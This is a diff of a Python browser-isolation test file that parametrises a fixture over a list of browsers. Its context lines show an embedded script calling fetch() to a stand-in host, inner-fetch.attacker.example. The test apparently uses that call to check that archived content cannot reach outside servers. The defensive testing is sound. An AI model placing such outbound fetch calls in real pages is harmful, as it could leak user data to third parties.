@@ -19,7 +19,7 @@ from deckarchive.presenter import present
 from deckarchive.rehearsal import rehearse
 from deckarchive.server import DeadProxy, Server
 from tests.browsers import SharedBrowser
-from tests.firefox import firefox, needs_firefox
+from tests.firefox import BROWSERS, firefox
 from tests.isolation.served import COPY, SERVERS, ask, free_port, offline_folder, served
 
 WORKER = """
@@ -67,7 +67,7 @@ fetch("http://inner-fetch.attacker.example/", { mode: "no-cors" }).catch(() => 0
 </script>"""
 
 
-@pytest.fixture(scope="module", params=["chromium", pytest.param("firefox", marks=needs_firefox)])
+@pytest.fixture(scope="module", params=BROWSERS)
 def browser(request: Any, shared_browser: SharedBrowser) -> Iterator[tuple[Any, DeadProxy]]:
     with DeadProxy() as witness:
         if request.param == "chromium":
